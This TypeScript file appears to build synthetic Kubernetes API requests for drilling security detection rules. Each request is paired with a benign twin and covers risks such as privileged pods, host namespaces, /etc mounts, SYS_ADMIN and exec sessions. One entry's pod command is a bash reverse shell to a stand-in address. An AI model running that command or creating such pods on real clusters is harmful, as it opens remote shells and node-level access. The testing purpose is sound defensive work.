import { type ApiAction, type ApiRequest, apiAction } from "./request.ts";

const IMAGE = "registry.example/eyas-drill:1";

/** A request that creates a pod. The properties are part of its specification. */
function pod(spec: object = {}, container: object = {}): ApiRequest {
  return {
    verb: "create",
    resource: "pods",
    object: { kind: "Pod", spec: { containers: [{ name: "drill", image: IMAGE, ...container }], ...spec } },
  };
}

const PLAIN = ["Reports a pod without this property.", pod()] as const;
const hostPath = (path: string) => ({ volumes: [{ name: "drill", hostPath: { path, type: "" } }] });

const session = (subresource: string, namespace?: string): ApiRequest => ({
  verb: "create",
  resource: `pods/${subresource}`,
  ...(namespace !== undefined && { namespace }),
});
const LOG = ["Reports that the log of a pod was read.", { verb: "get", resource: "pods/log" }] as const;

const debug = (securityContext: object): ApiRequest => ({
  verb: "patch",
  resource: "pods/ephemeralcontainers",
  object: { spec: { ephemeralContainers: [{ name: "debug", image: IMAGE, securityContext }] } },
});

const actions: readonly ApiAction[] = [
  {
    name: "k8s-privileged-pod",
    rule: "Privileged pod created",
    does: "Reports a pod with a privileged container.",
    request: pod({}, { securityContext: { privileged: true } }),
    twin: PLAIN,
  },
  {
    name: "k8s-host-network",
    rule: "Pod created with host network",
    does: "Reports a pod in the network namespace of its node.",
    request: pod({ hostNetwork: true }),
    twin: PLAIN,
  },
  {
    name: "k8s-host-pid",
    rule: "Pod created with host PID namespace",
    does: "Reports a pod in the PID namespace of its node.",
    request: pod({ hostPID: true }),
    twin: PLAIN,
  },
  {
    name: "k8s-host-ipc",
    rule: "Pod created with host IPC namespace",
    does: "Reports a pod in the IPC namespace of its node.",
    request: pod({ hostIPC: true }),
    twin: PLAIN,
  },
  {
    name: "k8s-host-path",
    rule: "Sensitive host path mounted in pod",
    does: "Reports a pod that mounts the /etc directory of its node.",
    request: pod(hostPath("/etc")),
    twin: ["Reports a pod that mounts the /srv/data directory of its node.", pod(hostPath("/srv/data"))],
  },
  {
    name: "k8s-obfuscated-path",
    rule: "Obfuscated host path requested in pod",
    does: "Reports a pod that mounts a directory of its node by a path with `..`.",
    request: pod(hostPath("/srv/../srv/data")),
    twin: ["Reports a pod that mounts the /srv/data directory of its node.", pod(hostPath("/srv/data"))],
  },
  {
    name: "k8s-capabilities",
    rule: "Pod created with dangerous capabilities",
    does: "Reports a pod with the capability SYS_ADMIN.",
    request: pod({}, { securityContext: { capabilities: { add: ["SYS_ADMIN"] } } }),
    twin: [
      "Reports a pod with the capability NET_BIND_SERVICE.",
      pod({}, { securityContext: { capabilities: { add: ["NET_BIND_SERVICE"] } } }),
    ],
  },
  {
    name: "k8s-reverse-shell",
    rule: "Reverse shell in pod command",
    does: "Reports a pod whose command is a reverse shell.",
    request: pod({}, { command: ["sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"] }),
    twin: ["Reports a pod whose command prints a line.", pod({}, { command: ["sh", "-c", "echo drill"] })],
  },
  {
    name: "k8s-host-port",
    rule: "Pod created with host port",
    does: "Reports a pod with a host port.",
    request: pod({}, { ports: [{ containerPort: 80, hostPort: 80 }] }),
    twin: ["Reports a pod with a container port only.", pod({}, { ports: [{ containerPort: 80 }] })],
  },
  {
    name: "k8s-root-pod",
    rule: "Pod created with root user",
    does: "Reports a pod that runs as root.",
    request: pod({ securityContext: { runAsUser: 0 } }),
    twin: ["Reports a pod that runs as another user.", pod({ securityContext: { runAsUser: 1000 } })],
  },
  {
    name: "k8s-privileged-attempt",
    rule: "Privileged pod creation attempted",
    does: "Reports a privileged pod that the API server rejected as invalid.",
    request: { ...pod({}, { securityContext: { privileged: true } }), code: 422 },
    twin: ["Reports an unprivileged pod that the API server rejected as invalid.", { ...pod(), code: 422 }],
  },
  {
    name: "k8s-violation-admitted",
    rule: "Pod admitted despite pod security violation",
    does: "Reports an admitted pod that violates pod security.",
    request: {
      ...pod(),
      annotations: { "pod-security.kubernetes.io/audit-violations": 'would violate PodSecurity "baseline:latest"' },
    },
    twin: PLAIN,
  },
  {
    name: "k8s-violation-rejected",
    rule: "Pod rejected by pod security admission",
    does: "Reports a pod that pod security admission rejected.",
    request: {
      ...pod(),
      code: 403,
      decision: "allow",
      message: 'pods "eyas-drill" is forbidden: violates PodSecurity "restricted:latest": privileged',
    },
    twin: PLAIN,
  },
  {
    name: "k8s-insecure-template",
    rule: "Workload created or modified with insecure pod template",
    does: "Reports a deployment whose pods are privileged.",
    request: {
      verb: "update",
      resource: "deployments",
      object: {
        spec: {
          template: { spec: { containers: [{ name: "drill", image: IMAGE, securityContext: { privileged: true } }] } },
        },
      },
    },
  },
  {
    name: "k8s-system-pod",
    rule: "Pod or workload created in system namespace",
    does: "Reports a pod in kube-system.",
    request: { ...pod(), namespace: "kube-system" },
    twin: ["Reports a pod in another namespace.", pod()],
  },
  {
    name: "k8s-static-pod",
    rule: "Unknown static pod registered",
    does: "Reports a static pod of a node.",
    request: { ...pod(), user: "system:node:eyas-drill", namespace: "kube-system" },
    twin: [
      "Reports the static pod of the API server.",
      { ...pod(), user: "system:node:eyas-drill", namespace: "kube-system", name: "kube-apiserver-eyas-drill" },
    ],
  },
  {
    name: "k8s-exec-system",
    rule: "Pod exec or attach session opened in system namespace",
    does: "Reports an exec session in a pod in kube-system.",
    request: session("exec", "kube-system"),
    twin: LOG,
  },
  {
    name: "k8s-exec",
    rule: "Pod exec or attach session opened",
    does: "Reports an exec session in a pod.",
    request: session("exec"),
    twin: LOG,
  },
  {
    name: "k8s-port-forward",
    rule: "Pod port-forward session opened",
    does: "Reports a port-forward session to a pod.",
    request: session("portforward"),
    twin: LOG,
  },
  {
    name: "k8s-privileged-debug",
    rule: "Privileged debug container added to pod",
    does: "Reports a privileged debug container in a pod.",
    request: debug({ privileged: true }),
  },
  {
    name: "k8s-debug",
    rule: "Debug container added to pod",
    does: "Reports a debug container in a pod.",
    request: debug({}),
  },
  {
    name: "k8s-kubelet-proxy",
    rule: "Kubelet API accessed through API server proxy",
    does: "Reports a request to the API of a kubelet through the API server.",
    request: { verb: "get", resource: "nodes/proxy", namespace: null },
    twin: ["Reports that a node was read.", { verb: "get", resource: "nodes", namespace: null }],
  },
  {
    name: "k8s-service-proxy",
    rule: "Pod or service accessed through API server proxy",
    does: "Reports a request to a service through the API server.",
    request: { verb: "get", resource: "services/proxy" },
    twin: ["Reports that a service was read.", { verb: "get", resource: "services" }],
  },
];

/** Actions that involve pods and sessions in pods. */
export const podActions = actions.map(apiAction);
